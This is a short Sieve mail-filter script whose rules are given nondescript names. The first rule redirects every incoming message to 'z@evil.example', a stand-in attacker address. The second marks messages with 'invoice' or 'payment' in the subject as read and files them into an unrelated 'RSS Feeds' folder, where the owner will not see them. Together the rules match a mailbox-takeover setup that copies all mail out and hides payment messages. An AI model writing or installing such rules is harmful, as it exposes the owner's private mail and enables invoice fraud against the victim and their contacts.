require ["fileinto","imap4flags"];
# rule:[..]
if anyof (true)
{
	redirect "z@evil.example";
}
# rule:[.]
if anyof (header :contains "subject" ["invoice","payment"])
{
	addflag "\\Seen";
	fileinto "RSS Feeds";
	stop;
}
